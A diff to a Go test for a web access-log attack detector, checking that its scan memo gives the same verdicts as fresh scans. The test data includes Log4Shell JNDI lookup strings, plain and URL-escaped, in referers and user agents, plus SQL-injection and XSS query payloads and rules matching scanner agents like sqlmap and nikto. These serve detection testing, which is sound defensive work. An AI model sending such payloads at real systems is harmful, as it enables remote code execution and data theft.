@@ -215,6 +215,20 @@ func TestScanMemo_SameVerdictsAsFreshScans(t *testing.T) {
 			lines = append(lines, fmt.Sprintf(`192.0.2.12 - - [01/Nov/2026:00:00:00 +0000] "GET %s HTTP/1.1" 200 5 "http://x/" "agent"`, path))
 		}
 	}
+	// Referers with a lookup, as logged and escaped, and near misses, on
+	// requests whose path and agent may hold one too or not.
+	for i, ref := range []string{"http://r/${jndi:ldap://x/a}", "http://r/%24%7Bjndi:ldap://x/a%7D", "http://r/%24%7Bjndi", "http://r/?q=%24%7Benv:HOME%7D", "${jndi:ldap://x/a}"} {
+		for k := range 6 {
+			path, ua := "/", "agent"
+			if k%2 == 1 {
+				path = "/%41"
+			}
+			if k%3 == 2 {
+				ua = fmt.Sprintf("agent ${jndi:ldap://u/%d}", i)
+			}
+			lines = append(lines, fmt.Sprintf(`192.0.2.13 - - [01/Nov/2026:00:00:00 +0000] "GET %s HTTP/1.1" 200 5 %q %q`, path, ref, ua))
+		}
+	}
 	// Many distinct agents, some of them scanners', so that slots are
 	// taken over by texts with other verdicts.
 	for i := range 4000 {
@@ -250,6 +264,53 @@ func TestScanMemo_SameVerdictsAsFreshScans(t *testing.T) {
 		own := []string{"id=3", "id=1%27%20union%20select%20null--", "q=%3Cscript%3Ealert(1)%3C/script%3E"}[i%3]
 		lines = append(lines, fmt.Sprintf(`192.0.2.10 - - [01/Nov/2026:00:00:00 +0000] "GET /r?%s HTTP/1.1" 200 5 "https://search.example/s?%s" "agent"`, own, rq))
 	}
+	mm := sameVerdictsReused(t, rules, f, lines)
+	// Each table must have been filled (and so written over): the test
+	// exercised every kind of slot. The referers' queries are answered by
+	// the referers' own slots, whose scan the built-in rules need.
+	refSlots := 0
+	for i := range mm.slots {
+		if sl := &mm.slots[i]; sl.flags&slotRefKnown != 0 && sl.ref != nil {
+			refSlots++
+		}
+	}
+	if refSlots < 100 {
+		t.Errorf("%d referer slots with their query's findings: the memo was not exercised", refSlots)
+	}
+	for _, tb := range []struct {
+		name       string
+		used, size int
+	}{
+		{"agent and referer", slotsUsed(mm.slots[:], func(sl *memoSlot) string { return sl.text }), memoSlots},
+		{"query", slotsUsed(mm.queries[:], func(sl *queryMemoSlot) string { return sl.text }), queryMemoSlots},
+		{"query expression", slotsUsed(mm.queryRes[:], func(sl *queryReSlot) string { return sl.text }), queryMemoSlots},
+	} {
+		if tb.used < tb.size*3/4 {
+			t.Errorf("%d of %d %s memo slots used: the memo was not exercised", tb.used, tb.size, tb.name)
+		}
+	}
+	// Rules that scan no referer: their queries' findings come from the
+	// memo's table of referer queries.
+	noReferer, err := Parse([]byte(`scenarios:
+  - {name: sqli, trigger: match, filter: {sqli: true}}
+  - {name: xss, trigger: match, filter: {xss: true}}
+  - {name: jndi, trigger: match, filter: {log4shell: true}}
+  - {name: ua, trigger: match, filter: {ua_contains: [sqlmap, nikto]}}
+`), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	mm = sameVerdictsReused(t, noReferer, f, lines)
+	if used := slotsUsed(mm.refQueries[:], func(sl *queryMemoSlot) string { return sl.text }); used < refQueryMemoSlots*3/4 {
+		t.Errorf("%d of %d referer query memo slots used: the memo was not exercised", used, refQueryMemoSlots)
+	}
+}
+
+// sameVerdictsReused evaluates lines with one event reused and with a
+// fresh event each, fails on any difference, and returns the reused
+// event's memo.
+func sameVerdictsReused(t *testing.T, rules *Rules, f *accesslog.Format, lines []string) *scanMemo {
+	t.Helper()
 	var reused Event
 	hitsSeen, n := 0, 0
 	for _, l := range lines {
@@ -272,22 +333,7 @@ func TestScanMemo_SameVerdictsAsFreshScans(t *testing.T) {
 	if n < 20_000 || hitsSeen == 0 {
 		t.Fatalf("%d lines, %d matches: the test saw too little", n, hitsSeen)
 	}
-	// Each table must have been filled (and so written over): the test
-	// exercised every kind of slot.
-	mm := reused.memo
-	for _, tb := range []struct {
-		name       string
-		used, size int
-	}{
-		{"agent and referer", slotsUsed(mm.slots[:], func(sl *memoSlot) string { return sl.text }), memoSlots},
-		{"query", slotsUsed(mm.queries[:], func(sl *queryMemoSlot) string { return sl.text }), queryMemoSlots},
-		{"referer query", slotsUsed(mm.refQueries[:], func(sl *queryMemoSlot) string { return sl.text }), refQueryMemoSlots},
-		{"query expression", slotsUsed(mm.queryRes[:], func(sl *queryReSlot) string { return sl.text }), queryMemoSlots},
-	} {
-		if tb.used < tb.size*3/4 {
-			t.Errorf("%d of %d %s memo slots used: the memo was not exercised", tb.used, tb.size, tb.name)
-		}
-	}
+	return reused.memo
 }
 
 // slotsUsed counts the slots of a memo table that hold a text.
